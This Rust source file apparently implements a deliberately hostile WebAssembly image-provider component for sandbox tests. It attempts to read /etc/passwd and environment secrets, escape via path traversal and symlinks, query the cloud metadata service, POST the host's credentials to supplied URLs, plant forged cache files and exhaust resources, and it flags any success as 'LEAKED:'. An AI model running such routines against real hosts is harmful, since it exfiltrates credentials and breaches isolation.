//! A hostile image-provider component for the sandbox tests: it exports the same
//! `openstack:image/lifecycle` as the real guest, but misbehaves as the image spec's `name`
//! asks (the behaviour is the name's last part, e.g. `e2e-sandbox-1a2b3c4d-read-passwd`).
//!
//! Parameters come from the spec's `properties` (`url`, `addr`, `urls`, `plant_*`). Attempts
//! report what happened in the returned error; anything that unexpectedly worked is marked
//! `LEAKED:`, which the tests assert never appears. Images with no known behaviour are benign,
//! and `read` answers from a fake cloud that holds exactly the ids starting with [`FAKE_CLOUD`].

wit_bindgen::generate!({
    world: "lifecycle-provider",
    path: "../../wit",
});

use std::io::{Read, Write};
use std::path::{Path, PathBuf};

use exports::openstack::image::lifecycle::Guest;
use openstack::image::types::{
    Cloud, Credentials, Endpoint, Error, FieldError, ImageQuery, ImageSpec, ImageState, Plan, Session,
};
use openstack_image_documents::{ImageDoc, SpecDoc, convert_records, fixtures};

/// Ids the fake cloud holds (anything else is "not found").
const FAKE_CLOUD: &str = "00000000-0000-4000-8000-";
/// The fake-cloud id whose `read` answers with another image's id.
const WRONG_ID_ON_READ: &str = "00000000-0000-4000-8000-000000000bad";
/// The default host an HTTP attempt calls (never allowed by the tests).
const DENIED_URL: &str = "http://example.org/";
// `From` conversions between the documents and this component's WIT types.
openstack_image_documents::image_records!(convert_records, openstack::image::types);

/// The cloud metadata service.
const METADATA_URL: &str = "http://169.254.169.254/latest/meta-data/";
/// The metadata service, as an image endpoint `authenticate` claims.
const METADATA_ENDPOINT: &str = "http://169.254.169.254";
/// A file, in any directory the host opened for the instance, listing (one a line) the image
/// endpoints `authenticate` claims besides the metadata service: it gets no spec to take
/// them from.
const CLAIMED_ENDPOINTS_FILE: &str = "claimed-endpoints";

struct Hostile;

impl Guest for Hostile {
    /// Claims the metadata service and the [`CLAIMED_ENDPOINTS_FILE`] endpoints as the
    /// cloud's image endpoints (a host must not let a component's word open a host).
    fn authenticate(_cloud: Cloud) -> Result<Session, Error> {
        Ok(Session {
            token: "hostile".into(),
            expires_at: Some("2999-01-01T00:00:00Z".into()),
            image_endpoints: claimed_endpoints()
                .into_iter()
                .map(|url| Endpoint {
                    url,
                    region: None,
                    interface: "public".into(),
                })
                .collect(),
            project_id: None,
        })
    }

    fn check(spec: ImageSpec) -> Result<ImageSpec, Error> {
        let report = match behaviour(&spec) {
            "read-passwd" => read_passwd(),
            "read-outside" => read_outside(&spec),
            "write-read-only" => write_read_only(&spec),
            "dotdot-escape" => dotdot_escape(&spec),
            "symlink-escape" => symlink_escape(&spec),
            "http-denied" => return Err(Error::DeniedByHost(http_denied(&spec))),
            "raw-socket" => raw_socket(&spec),
            "allocate-forever" => allocate_forever(),
            "loop-forever" => loop_forever(),
            "sleep-forever" => sleep_forever(),
            "flood-output" => flood_output(),
            "huge-error" => return Err(huge_error()),
            "plant-cache" => plant_cache(&spec),
            _ => return Ok(spec),
        };
        Err(invalid(report))
    }

    fn check_with_cloud(_cloud: Cloud, _spec: ImageSpec) -> Result<(), Error> {
        Ok(())
    }

    fn diff(_desired: ImageSpec, _prior: ImageState) -> Result<Plan, Error> {
        Ok(Plan {
            action: openstack::image::types::Action::NoOp,
            changes: Vec::new(),
        })
    }

    fn create(cloud: Cloud, spec: ImageSpec) -> Result<ImageState, Error> {
        let requested = spec.image_id.clone().unwrap_or_default();
        let mut image = fake_image(&requested, spec);
        match behaviour(&image.spec) {
            "create-wrong-id" => image.id = "11111111-2222-4333-8444-555555555555".into(),
            "create-not-uuid" => image.id = "../../etc/passwd\nnot-a-uuid".into(),
            "create-bad-status" => image.status = "pwned".into(),
            "create-huge-strings" => {
                let huge = "A".repeat(2 * 1024 * 1024);
                image.owner = Some(huge.clone());
                image.metadata = (0..4).map(|i| (format!("k{i}"), huge.clone())).collect();
            }
            "claimed-endpoint" => {
                let urls: Vec<String> = claimed_endpoints()
                    .iter()
                    .map(|endpoint| format!("{endpoint}/v2/images"))
                    .collect();
                return Err(invalid(try_http(&urls, None)));
            }
            "forged-session" => return Err(invalid(forged_session(&cloud, &image.spec))),
            other => return Err(invalid(format!("create: no such behaviour '{other}'"))),
        }
        Ok(image)
    }

    fn read(_cloud: Cloud, id: String, prior: Option<ImageState>) -> Result<Option<ImageState>, Error> {
        if let Some(prior) = prior {
            return Ok(Some(prior));
        }
        if !id.starts_with(FAKE_CLOUD) {
            return Ok(None);
        }
        let spec = ImageSpec {
            name: Some("fake-cloud-image".into()),
            ..empty_spec()
        };
        let mut image = fake_image(&id, spec);
        if id == WRONG_ID_ON_READ {
            image.id = "11111111-2222-4333-8444-555555555555".into();
        }
        Ok(Some(image))
    }

    fn update(_cloud: Cloud, _prior: ImageState, _desired: ImageSpec) -> Result<ImageState, Error> {
        Err(invalid("update: the hostile fixture never updates".into()))
    }

    fn delete(
        _cloud: Cloud,
        id: String,
        _region: Option<String>,
        _timeout: Option<u64>,
    ) -> Result<(), Error> {
        Err(invalid(format!("delete {id}: the hostile fixture never deletes")))
    }

    fn find(_cloud: Cloud, _query: ImageQuery) -> Result<ImageState, Error> {
        Err(invalid("find: the hostile fixture finds nothing".into()))
    }
}

export!(Hostile);

/// The behaviour the spec's name asks for: its part after the last `-` that names one.
fn behaviour(spec: &ImageSpec) -> &str {
    const KNOWN: &[&str] = &[
        "read-passwd",
        "read-outside",
        "write-read-only",
        "dotdot-escape",
        "symlink-escape",
        "http-denied",
        "raw-socket",
        "allocate-forever",
        "loop-forever",
        "sleep-forever",
        "flood-output",
        "huge-error",
        "create-wrong-id",
        "create-not-uuid",
        "create-bad-status",
        "create-huge-strings",
        "claimed-endpoint",
        "forged-session",
        "plant-cache",
    ];
    let name = spec.name.as_deref().unwrap_or("");
    KNOWN
        .iter()
        .find(|b| name.ends_with(*b))
        .copied()
        .unwrap_or("benign")
}

/// The spec's property `key`.
fn property<'a>(spec: &'a ImageSpec, key: &str) -> Option<&'a str> {
    spec.properties
        .iter()
        .find(|(k, _)| k == key)
        .map(|(_, v)| v.as_str())
}

fn invalid(message: String) -> Error {
    Error::InvalidSpec(vec![FieldError {
        field: "name".into(),
        message,
    }])
}

/// Reads `path`; a successful read is a leak.
fn try_read(path: &Path) -> String {
    match std::fs::read(path) {
        Ok(data) => format!(
            "read {}: LEAKED: {}",
            path.display(),
            String::from_utf8_lossy(&data[..data.len().min(200)])
        ),
        Err(e) => format!("read {}: {e}", path.display()),
    }
}

/// Lists `path`; a successful listing is a leak.
fn try_list(path: &Path) -> String {
    match std::fs::read_dir(path) {
        Ok(entries) => {
            let names: Vec<String> = entries
                .flatten()
                .map(|e| e.file_name().to_string_lossy().into_owned())
                .collect();
            format!("list {}: LEAKED: {names:?}", path.display())
        }
        Err(e) => format!("list {}: {e}", path.display()),
    }
}

/// The directory the host preopened for the spec's local file.
fn file_dir(spec: &ImageSpec) -> PathBuf {
    let file = spec.local_file_path.as_deref().unwrap_or("/nonexistent/file");
    Path::new(file).parent().unwrap_or(Path::new("/")).to_path_buf()
}

fn read_passwd() -> String {
    [try_read(Path::new("/etc/passwd")), try_list(Path::new("/"))].join("; ")
}

fn read_outside(spec: &ImageSpec) -> String {
    let scenario = file_dir(spec).parent().unwrap_or(Path::new("/")).to_path_buf();
    let env: Vec<(String, String)> = std::env::vars().collect();
    let args: Vec<String> = std::env::args().collect();
    let leaked_env = if env.is_empty() && args.is_empty() {
        "environment and arguments: none".to_string()
    } else {
        format!("environment and arguments: LEAKED: {env:?} {args:?}")
    };
    [
        try_read(&scenario.join("openstack-image.state.json")),
        try_list(&scenario),
        try_list(Path::new("/root")),
        try_read(Path::new("/proc/self/environ")),
        leaked_env,
    ]
    .join("; ")
}

fn write_read_only(spec: &ImageSpec) -> String {
    let dir = file_dir(spec);
    let file = PathBuf::from(spec.local_file_path.as_deref().unwrap_or("/nonexistent/file"));
    let outcome = |what: String, result: std::io::Result<()>| match result {
        Ok(()) => format!("{what}: LEAKED: it worked"),
        Err(e) => format!("{what}: {e}"),
    };
    let created = dir.join("planted-by-the-component");
    [
        outcome(
            format!("create {}", created.display()),
            std::fs::write(&created, b"planted"),
        ),
        outcome(
            format!("overwrite {}", file.display()),
            std::fs::OpenOptions::new()
                .write(true)
                .open(&file)
                .and_then(|mut f| f.write_all(b"overwritten")),
        ),
        outcome(
            format!("truncate {}", file.display()),
            std::fs::OpenOptions::new()
                .write(true)
                .truncate(true)
                .open(&file)
                .map(drop),
        ),
        outcome(format!("remove {}", file.display()), std::fs::remove_file(&file)),
        outcome(
            format!("rename {}", file.display()),
            std::fs::rename(&file, dir.join("renamed")),
        ),
        outcome(
            format!("mkdir in {}", dir.display()),
            std::fs::create_dir(dir.join("planted-dir")),
        ),
    ]
    .join("; ")
}

fn dotdot_escape(spec: &ImageSpec) -> String {
    let dir = file_dir(spec);
    [
        try_read(&dir.join("../openstack-image.state.json")),
        try_read(&dir.join("../../../../../../../../etc/passwd")),
        try_list(&dir.join("..")),
        try_list(&dir.join("../..")),
    ]
    .join("; ")
}

fn symlink_escape(spec: &ImageSpec) -> String {
    let dir = file_dir(spec);
    [
        try_read(&dir.join("passwd-link")),
        try_read(&dir.join("state-link")),
        try_list(&dir.join("parent-link")),
        try_read(&dir.join("parent-link/openstack-image.state.json")),
    ]
    .join("; ")
}

fn http_denied(spec: &ImageSpec) -> String {
    let urls = [
        property(spec, "url").unwrap_or(DENIED_URL).to_string(),
        METADATA_URL.into(),
    ];
    try_http(&urls, None)
}

/// Sends `urls` a GET (or a POST of `body`); any answer is a leak.
fn try_http(urls: &[String], body: Option<&[u8]>) -> String {
    let method = if body.is_some() { "POST" } else { "GET" };
    urls.iter()
        .map(|url| match http_send(url, body) {
            Ok(answer) => format!("{method} {url}: LEAKED: {answer}"),
            Err(e) => format!("{method} {url}: {e}"),
        })
        .collect::<Vec<_>>()
        .join("; ")
}

/// A GET (or a POST of `body`) through wasi:http; the answer's status and the start of its body.
fn http_send(url: &str, body: Option<&[u8]>) -> Result<String, String> {
    use wasi::http::outgoing_handler;
    use wasi::http::types::{Fields, Method, OutgoingBody, OutgoingRequest, Scheme};

    let (scheme, rest) = url.split_once("://").ok_or("not a URL")?;
    let (authority, path) = rest.split_at(rest.find('/').unwrap_or(rest.len()));
    let request = OutgoingRequest::new(Fields::new());
    request
        .set_method(if body.is_some() {
            &Method::Post
        } else {
            &Method::Get
        })
        .and_then(|()| {
            request.set_scheme(Some(&if scheme == "https" {
                Scheme::Https
            } else {
                Scheme::Http
            }))
        })
        .and_then(|()| request.set_authority(Some(authority)))
        .and_then(|()| request.set_path_with_query(Some(if path.is_empty() { "/" } else { path })))
        .map_err(|()| "the runtime rejected the request line".to_string())?;
    let outgoing = request
        .body()
        .map_err(|()| "the runtime gave no request body".to_string())?;
    let future = outgoing_handler::handle(request, None).map_err(|e| format!("{e:?}"))?;
    // A refused request shows in its response; a failed write would say less.
    if let (Some(bytes), Ok(stream)) = (body, outgoing.write()) {
        for chunk in bytes.chunks(4096) {
            if stream.blocking_write_and_flush(chunk).is_err() {
                break;
            }
        }
    }
    let _ = OutgoingBody::finish(outgoing, None);
    let response = loop {
        if let Some(result) = future.get() {
            break result;
        }
        future.subscribe().block();
    };
    let response = response
        .map_err(|()| "the response was taken".to_string())?
        .map_err(|e| format!("{e:?}"))?;
    let status = response.status();
    let body = response.consume().map_err(|()| "no body".to_string())?;
    let stream = body.stream().map_err(|()| "no body stream".to_string())?;
    let chunk = stream.blocking_read(200).unwrap_or_default();
    drop(stream);
    Ok(format!("HTTP {status}: {}", String::from_utf8_lossy(&chunk)))
}

/// The image endpoints `authenticate` claims: the metadata service, and those listed in a
/// [`CLAIMED_ENDPOINTS_FILE`] of any directory the host opened.
fn claimed_endpoints() -> Vec<String> {
    let mut endpoints = vec![METADATA_ENDPOINT.to_string()];
    for (_, dir) in wasi::filesystem::preopens::get_directories() {
        if let Ok(text) = std::fs::read_to_string(Path::new(&dir).join(CLAIMED_ENDPOINTS_FILE)) {
            endpoints.extend(
                text.lines()
                    .map(str::trim)
                    .filter(|l| !l.is_empty())
                    .map(str::to_string),
            );
        }
    }
    endpoints
}

/// POSTs everything the host gave it about the cloud's access to the spec's `urls` (comma
/// separated), and says what that was: a host that keeps the secrets gives a session and
/// session-only credentials.
fn forged_session(cloud: &Cloud, spec: &ImageSpec) -> String {
    let given = format!(
        "credentials: {:?}\nsession: {:?}",
        cloud.credentials, cloud.session
    );
    let urls: Vec<String> = property(spec, "urls")
        .unwrap_or_default()
        .split(',')
        .map(str::trim)
        .filter(|url| !url.is_empty())
        .map(str::to_string)
        .collect();
    let credentials = match &cloud.credentials {
        Credentials::SessionOnly => "credentials: session-only".to_string(),
        other => format!("credentials: LEAKED: {other:?}"),
    };
    let session = if cloud.session.is_some() {
        "session: given"
    } else {
        "session: none"
    };
    [
        try_http(&urls, Some(given.as_bytes())),
        credentials,
        session.into(),
    ]
    .join("; ")
}

/// Writes the spec's `plant_data` at `plant_path` and `plant_sidecar` beside it (`.json`): a
/// download cache entry, and the record vouching for it, for another component to find.
fn plant_cache(spec: &ImageSpec) -> String {
    let data = property(spec, "plant_path").unwrap_or("/nonexistent/planted.img");
    let write = |file: &str, key: &str| match std::fs::write(file, property(spec, key).unwrap_or_default()) {
        Ok(()) => format!("plant {file}: written"),
        Err(e) => format!("plant {file}: {e}"),
    };
    [
        write(data, "plant_data"),
        write(&format!("{data}.json"), "plant_sidecar"),
    ]
    .join("; ")
}

fn raw_socket(spec: &ImageSpec) -> String {
    let addr = property(spec, "addr").unwrap_or("127.0.0.1:80");
    let connect = match std::net::TcpStream::connect(addr) {
        Ok(mut stream) => {
            let _ = stream.write_all(b"GET / HTTP/1.0\r\n\r\n");
            let mut answer = [0u8; 200];
            let n = stream.read(&mut answer).unwrap_or(0);
            format!(
                "connect {addr}: LEAKED: {}",
                String::from_utf8_lossy(&answer[..n])
            )
        }
        Err(e) => format!("connect {addr}: {e}"),
    };
    let lookup = match std::net::ToSocketAddrs::to_socket_addrs(&("localhost", 80)) {
        Ok(addrs) => format!("resolve localhost: LEAKED: {:?}", addrs.collect::<Vec<_>>()),
        Err(e) => format!("resolve localhost: {e}"),
    };
    [connect, lookup].join("; ")
}

fn allocate_forever() -> String {
    let mut hoard: Vec<Vec<u8>> = Vec::new();
    loop {
        hoard.push(vec![0xA5; 1024 * 1024]);
        std::hint::black_box(&hoard);
    }
}

fn loop_forever() -> String {
    let mut n = 0u64;
    loop {
        n = std::hint::black_box(n.wrapping_add(1));
    }
}

fn sleep_forever() -> String {
    std::thread::sleep(std::time::Duration::from_secs(u64::from(u32::MAX)));
    "woke up".into()
}

/// Writes 256 MiB of short lines to stderr, 64 MiB to stdout, then one 64 MiB line.
fn flood_output() -> String {
    let lines = "flood\n".repeat(64 * 1024);
    let mut stderr = std::io::stderr();
    for _ in 0..(256 * 1024 * 1024 / lines.len()) {
        let _ = stderr.write_all(lines.as_bytes());
    }
    let mut stdout = std::io::stdout();
    for _ in 0..(64 * 1024 * 1024 / lines.len()) {
        let _ = stdout.write_all(lines.as_bytes());
    }
    let long = "x".repeat(1024 * 1024);
    for _ in 0..64 {
        let _ = stderr.write_all(long.as_bytes());
    }
    let _ = stderr.write_all(b"\n");
    "flooded stdout and stderr".into()
}

/// An error of 1000 fields with 16 KiB messages each.
fn huge_error() -> Error {
    let message = "E".repeat(16 * 1024);
    Error::InvalidSpec(
        (0..1000)
            .map(|i| FieldError {
                field: format!("field{i}"),
                message: message.clone(),
            })
            .collect(),
    )
}

fn empty_spec() -> ImageSpec {
    SpecDoc {
        container_format: Some("bare".into()),
        disk_format: Some("qcow2".into()),
        ..SpecDoc::default()
    }
    .into()
}

/// The fake cloud's active image `id` holding `spec`.
fn fake_image(id: &str, spec: ImageSpec) -> ImageState {
    ImageDoc {
        id: id.to_string(),
        file: format!("/v2/images/{id}/file"),
        ..fixtures::image(spec.into())
    }
    .into()
}
